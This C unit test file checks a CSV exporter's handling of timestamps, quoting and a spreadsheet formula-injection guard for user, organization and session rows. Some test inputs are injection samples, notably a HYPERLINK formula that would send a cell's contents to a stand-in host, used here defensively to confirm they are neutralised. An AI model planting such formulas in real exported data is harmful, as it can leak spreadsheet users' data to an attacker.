/*
 * tests/unit/test_csv.c - results.csv cells and rows.
 *
 * The stories: a person opens search results in a spreadsheet and sees real
 * dates (B24), names with commas and line breaks stay in their cells (B25),
 * and a name written as a formula is shown, not run (B27), while phone
 * numbers and negative numbers are left alone.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <glib.h>
#include <glib/gstdio.h>

#include "api/json.h"
#include "fs/csv.h"

static cJSON *parse_ok(const char *text)
{
	struct json_error err = { 0 };
	cJSON *item = json_parse(text, strlen(text), &err);

	if (!item)
		g_error("cannot parse test JSON: %d:%d: %s", err.line,
			err.column, err.message);
	return item;
}

/* One cell as csv_append_cell writes it; the caller frees it. */
static char *cell(const char *value, int guard)
{
	GString *out = g_string_new(NULL);

	csv_append_cell(out, value, guard);
	return g_string_free(out, FALSE);
}

static void check_cell(const char *value, int guard, const char *want)
{
	char *got = cell(value, guard);

	g_assert_cmpstr(got, ==, want);
	g_free(got);
}

/* The row csv_row writes for the JSON object text. */
static char *row(enum csv_resource res, const char *json)
{
	cJSON *obj = parse_ok(json);
	GString *out = g_string_new(NULL);

	csv_row(out, res, obj);
	cJSON_Delete(obj);
	return g_string_free(out, FALSE);
}

static void check_row(enum csv_resource res, const char *json,
		      const char *want)
{
	char *got = row(res, json);

	g_assert_cmpstr(got, ==, want);
	g_free(got);
}

/* ------------------------------------------------------------------ */
/* Times (B24)                                                          */
/* ------------------------------------------------------------------ */

static void check_time(long long ms, const char *want)
{
	char buf[32];

	csv_format_time(buf, ms);
	g_assert_cmpstr(buf, ==, want);
}

static void test_times(void)
{
	check_time(1700000000123LL, "2023-11-14T22:13:20.123Z");
	check_time(1700003600456LL, "2023-11-14T23:13:20.456Z");
	check_time(0, "1970-01-01T00:00:00.000Z");
	check_time(-1, "1969-12-31T23:59:59.999Z");
	check_time(-1000, "1969-12-31T23:59:59.000Z");
	check_time(1767225600000LL, "2026-01-01T00:00:00.000Z");
	check_time(253402300799999LL, "9999-12-31T23:59:59.999Z");
}

/* ------------------------------------------------------------------ */
/* Quoting (B25)                                                        */
/* ------------------------------------------------------------------ */

static void test_quoting(void)
{
	check_cell(NULL, 1, "");
	check_cell("", 1, "");
	check_cell("plain", 1, "plain");
	check_cell("caf\xc3\xa9", 1, "caf\xc3\xa9");
	check_cell("a,b", 0, "\"a,b\"");
	check_cell("say \"hi\"", 0, "\"say \"\"hi\"\"\"");
	check_cell("Ana, \"AJ\"\nLine2", 1, "\"Ana, \"\"AJ\"\"\nLine2\"");
	check_cell("Rivera\r\nOrtiz", 1, "\"Rivera\r\nOrtiz\"");
	check_cell("lone\rcr", 1, "\"lone\rcr\"");
	/* Leading or trailing blanks are quoted so that no tool trims them. */
	check_cell(" padded", 0, "\" padded\"");
	check_cell("padded ", 0, "\"padded \"");
	check_cell("in side", 0, "in side");
}

/* ------------------------------------------------------------------ */
/* Formula guard (B27)                                                  */
/* ------------------------------------------------------------------ */

static void test_guard(void)
{
	check_cell("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"open\")",
		   1, "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,"
		   "\"\"open\"\")\"");
	check_cell("+1+1", 1, "'+1+1");
	check_cell("@sum_test", 1, "'@sum_test");
	check_cell("\t=1+1", 1, "'\t=1+1");
	check_cell("-cmd", 1, "'-cmd");
	check_cell("-", 1, "'-");
	check_cell("\rx", 1, "\"'\rx\"");
	check_cell("=1", 0, "=1");

	/* Numbers and phone numbers are what they look like. */
	check_cell("+15555550100", 1, "+15555550100");
	check_cell("-5", 1, "-5");
	check_cell("-5.25", 1, "-5.25");
	check_cell("-1e-3", 1, "-1e-3");
	check_cell("+3", 1, "+3");
	check_cell("-5-5", 1, "'-5-5");
	check_cell("+1 555 0100", 1, "'+1 555 0100");
	check_cell("- 5", 1, "'- 5");
	check_cell("-.5", 1, "'-.5");
	check_cell("a=b", 1, "a=b");
}

/* ------------------------------------------------------------------ */
/* Rows                                                                 */
/* ------------------------------------------------------------------ */

static void test_headers(void)
{
	GString *out = g_string_new(NULL);

	csv_header(out, CSV_USERS);
	g_assert_cmpstr(out->str, ==,
			"id,username,first_name,last_name,"
			"primary_email_address,primary_phone_number,"
			"email_addresses,phone_numbers,external_id,banned,"
			"locked,created_at,updated_at,last_sign_in_at,"
			"last_active_at,public_metadata\n");
	g_string_truncate(out, 0);
	csv_header(out, CSV_ORGS);
	g_assert_cmpstr(out->str, ==,
			"id,name,slug,members_count,max_allowed_memberships,"
			"created_by,created_at,updated_at,public_metadata\n");
	g_string_truncate(out, 0);
	csv_header(out, CSV_SESSIONS);
	g_assert_cmpstr(out->str, ==,
			"id,user_id,client_id,status,last_active_at,"
			"expire_at,abandon_at,created_at,updated_at\n");
	g_string_free(out, TRUE);
}

/* A user as GET /users returns one, with two addresses of each kind. */
static const char ada_json[] =
	"{\"id\":\"user_2TstTim0024\",\"object\":\"user\","
	"\"username\":\"ada\",\"first_name\":\"Ada\","
	"\"last_name\":\"Lovelace\",\"image_url\":\"https://img.example/x\","
	"\"has_image\":false,"
	"\"primary_email_address_id\":\"idn_2\","
	"\"primary_phone_number_id\":\"idn_p1\","
	"\"primary_web3_wallet_id\":null,\"password_enabled\":true,"
	"\"two_factor_enabled\":false,"
	"\"email_addresses\":["
	"{\"id\":\"idn_1\",\"object\":\"email_address\","
	"\"email_address\":\"ada@old.example\",\"reserved\":false,"
	"\"verification\":{\"status\":\"verified\",\"strategy\":\"email_code\","
	"\"attempts\":1,\"expire_at\":1700000600000},\"linked_to\":[]},"
	"{\"id\":\"idn_2\",\"object\":\"email_address\","
	"\"email_address\":\"ada@example.com\",\"reserved\":false,"
	"\"verification\":null,\"linked_to\":[]}],"
	"\"phone_numbers\":["
	"{\"id\":\"idn_p1\",\"object\":\"phone_number\","
	"\"phone_number\":\"+15555550100\","
	"\"reserved_for_second_factor\":false,"
	"\"default_second_factor\":false,\"verification\":null,"
	"\"linked_to\":[],\"backup_codes\":null},"
	"{\"id\":\"idn_p2\",\"object\":\"phone_number\","
	"\"phone_number\":\"+447700900123\",\"verification\":null}],"
	"\"web3_wallets\":[],\"passkeys\":[],\"external_accounts\":[],"
	"\"public_metadata\":{\"plan\":\"pro\",\"seat\":9007199254740993,"
	"\"tags\":[\"a\",\"b\"]},"
	"\"private_metadata\":{\"secret\":1},\"unsafe_metadata\":{},"
	"\"external_id\":\"ext-42\",\"last_sign_in_at\":null,"
	"\"banned\":false,\"locked\":true,"
	"\"lockout_expires_in_seconds\":600,"
	"\"created_at\":1700000000123,\"updated_at\":1700003600456,"
	"\"last_active_at\":1700003600000}";

static void test_user_row(void)
{
	check_row(CSV_USERS, ada_json,
		  "user_2TstTim0024,ada,Ada,Lovelace,ada@example.com,"
		  "+15555550100,"
		  "\"[\"\"ada@old.example\"\",\"\"ada@example.com\"\"]\","
		  "\"[\"\"+15555550100\"\",\"\"+447700900123\"\"]\","
		  "ext-42,false,true,2023-11-14T22:13:20.123Z,"
		  "2023-11-14T23:13:20.456Z,,2023-11-14T23:13:20.000Z,"
		  "\"{\"\"plan\"\":\"\"pro\"\",\"\"seat\"\":9007199254740993,"
		  "\"\"tags\"\":[\"\"a\"\",\"\"b\"\"]}\"\n");
}

/* Nulls and absent fields are empty cells; null metadata is {}. */
static void test_user_row_sparse(void)
{
	check_row(CSV_USERS,
		  "{\"id\":\"user_x\",\"username\":null,\"first_name\":\"\","
		  "\"primary_email_address_id\":\"idn_gone\","
		  "\"primary_phone_number_id\":null,"
		  "\"email_addresses\":[{\"id\":\"idn_1\","
		  "\"email_address\":\"a@b.example\"}],"
		  "\"phone_numbers\":[],\"external_id\":null,"
		  "\"public_metadata\":null,\"created_at\":1700000000123,"
		  "\"updated_at\":null}",
		  "user_x,,,,,,\"[\"\"a@b.example\"\"]\",[],,,,"
		  "2023-11-14T22:13:20.123Z,,,,{}\n");
	check_row(CSV_USERS, "{}", ",,,,,,,,,,,,,,,{}\n");
}

static void test_user_row_guarded(void)
{
	check_row(CSV_USERS,
		  "{\"id\":\"user_a\",\"username\":\"@sum_test\","
		  "\"first_name\":\"=HYPERLINK(\\\"http://example.invalid/"
		  "?x=\\\"&A1,\\\"open\\\")\",\"last_name\":\"+1+1\","
		  "\"email_addresses\":[],\"phone_numbers\":[],"
		  "\"public_metadata\":{}}",
		  "user_a,'@sum_test,\"'=HYPERLINK(\"\"http://example.invalid/"
		  "?x=\"\"&A1,\"\"open\"\")\",'+1+1,,,[],[],,,,,,,,{}\n");
	check_row(CSV_USERS,
		  "{\"id\":\"user_b\",\"first_name\":\"\\t=1+1\","
		  "\"primary_phone_number_id\":\"idn_p\","
		  "\"phone_numbers\":[{\"id\":\"idn_p\","
		  "\"phone_number\":\"+15555550100\"}],"
		  "\"external_id\":\"-5\",\"public_metadata\":{\"score\":-5}}",
		  "user_b,,'\t=1+1,,,+15555550100,,\"[\"\"+15555550100\"\"]\","
		  "-5,,,,,,,\"{\"\"score\"\":-5}\"\n");
}

static void test_org_row(void)
{
	static const char org[] =
		"{\"object\":\"organization\",\"id\":\"org_2b\","
		"\"name\":\"Acme, Inc.\",\"slug\":\"acme\","
		"\"image_url\":\"https://img.example/o\",\"has_image\":true,"
		"%s\"max_allowed_memberships\":25,"
		"\"admin_delete_enabled\":true,"
		"\"public_metadata\":{\"tier\":\"gold\"},"
		"\"private_metadata\":{},\"created_by\":\"user_2a\","
		"\"created_at\":1700000000123,\"updated_at\":1700003600456}";
	char *with = g_strdup_printf(org, "\"members_count\":3,");
	char *without = g_strdup_printf(org, "");

	check_row(CSV_ORGS, with,
		  "org_2b,\"Acme, Inc.\",acme,3,25,user_2a,"
		  "2023-11-14T22:13:20.123Z,2023-11-14T23:13:20.456Z,"
		  "\"{\"\"tier\"\":\"\"gold\"\"}\"\n");
	check_row(CSV_ORGS, without,
		  "org_2b,\"Acme, Inc.\",acme,,25,user_2a,"
		  "2023-11-14T22:13:20.123Z,2023-11-14T23:13:20.456Z,"
		  "\"{\"\"tier\"\":\"\"gold\"\"}\"\n");
	check_row(CSV_ORGS,
		  "{\"id\":\"org_x\",\"name\":\"=cmd\",\"slug\":\"x\","
		  "\"public_metadata\":null}",
		  "org_x,'=cmd,x,,,,,,{}\n");
	g_free(with);
	g_free(without);
}

static void test_session_row(void)
{
	check_row(CSV_SESSIONS,
		  "{\"object\":\"session\",\"id\":\"sess_2c\","
		  "\"user_id\":\"user_2a\",\"client_id\":\"client_2d\","
		  "\"actor\":null,\"status\":\"active\","
		  "\"last_active_organization_id\":null,"
		  "\"last_active_at\":1700003600000,"
		  "\"latest_activity\":{\"browser_name\":\"Firefox\"},"
		  "\"expire_at\":1700604800000,\"abandon_at\":1702592000000,"
		  "\"updated_at\":1700003600456,\"created_at\":1700000000123,"
		  "\"tasks\":null}",
		  "sess_2c,user_2a,client_2d,active,2023-11-14T23:13:20.000Z,"
		  "2023-11-21T22:13:20.000Z,2023-12-14T22:13:20.000Z,"
		  "2023-11-14T22:13:20.123Z,2023-11-14T23:13:20.456Z\n");
}

/* A time the API sent in some other shape is shown, not misread. */
static void test_odd_time(void)
{
	check_row(CSV_SESSIONS,
		  "{\"id\":\"sess_x\",\"created_at\":1.5,"
		  "\"updated_at\":\"-1 day\"}",
		  "sess_x,,,,,,,1.5,'-1 day\n");
}

/* ------------------------------------------------------------------ */
/* Read back by Python's csv module (B25)                               */
/* ------------------------------------------------------------------ */

#define PYTHON "/usr/bin/python3"

static const char read_csv_py[] =
	"import csv, json, sys\n"
	"with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
	"    print(json.dumps(list(csv.reader(f)), ensure_ascii=False))\n";

/* Python's reading of csv as a JSON array of rows; NULL if it failed. */
static cJSON *python_reads(const char *csv)
{
	char *path = NULL, *out = NULL;
	int fd = g_file_open_tmp("clerkfs-csv-XXXXXX", &path, NULL);
	const char *argv[] = { PYTHON, "-c", read_csv_py, NULL, NULL };
	int status = -1;
	cJSON *rows = NULL;

	g_assert_cmpint(fd, >=, 0);
	close(fd);
	g_assert_true(g_file_set_contents(path, csv, -1, NULL));
	argv[3] = path;
	if (g_spawn_sync(NULL, (char **)argv, NULL, G_SPAWN_DEFAULT, NULL,
			 NULL, &out, NULL, &status, NULL) && status == 0)
		rows = parse_ok(out);
	g_unlink(path);
	g_free(path);
	g_free(out);
	return rows;
}

static void test_python_reads_back(void)
{
	static const char user[] =
		"{\"id\":\"user_q\",\"username\":\"plain_user\","
		"\"first_name\":\"Ana, \\\"AJ\\\"\\nLine2\","
		"\"last_name\":\"Rivera\\r\\nOrtiz\","
		"\"external_id\":\"=1+1\",\"public_metadata\":{\"n\":\"a,b\"}}";
	static const char want[] =
		"[[\"id\",\"username\",\"first_name\",\"last_name\","
		"\"primary_email_address\",\"primary_phone_number\","
		"\"email_addresses\",\"phone_numbers\",\"external_id\","
		"\"banned\",\"locked\",\"created_at\",\"updated_at\","
		"\"last_sign_in_at\",\"last_active_at\",\"public_metadata\"],"
		"[\"user_q\",\"plain_user\",\"Ana, \\\"AJ\\\"\\nLine2\","
		"\"Rivera\\r\\nOrtiz\",\"\",\"\",\"\",\"\",\"'=1+1\",\"\",\"\","
		"\"\",\"\",\"\",\"\",\"{\\\"n\\\":\\\"a,b\\\"}\"]]";
	GString *csv = g_string_new(NULL);
	cJSON *obj = parse_ok(user), *rows, *expected = parse_ok(want);

	if (!g_file_test(PYTHON, G_FILE_TEST_IS_EXECUTABLE)) {
		g_test_skip("python3 is not installed at " PYTHON);
		goto out;
	}
	csv_header(csv, CSV_USERS);
	csv_row(csv, CSV_USERS, obj);
	rows = python_reads(csv->str);
	g_assert_nonnull(rows);
	g_assert_cmpint(cJSON_GetArraySize(rows), ==, 2);
	g_assert_true(json_equal(rows, expected));
	cJSON_Delete(rows);
out:
	cJSON_Delete(obj);
	cJSON_Delete(expected);
	g_string_free(csv, TRUE);
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/csv/times", test_times);
	g_test_add_func("/csv/quoting", test_quoting);
	g_test_add_func("/csv/guard", test_guard);
	g_test_add_func("/csv/headers", test_headers);
	g_test_add_func("/csv/user-row", test_user_row);
	g_test_add_func("/csv/user-row-sparse", test_user_row_sparse);
	g_test_add_func("/csv/user-row-guarded", test_user_row_guarded);
	g_test_add_func("/csv/org-row", test_org_row);
	g_test_add_func("/csv/session-row", test_session_row);
	g_test_add_func("/csv/odd-time", test_odd_time);
	g_test_add_func("/csv/python-reads-back", test_python_reads_back);
	return g_test_run();
}
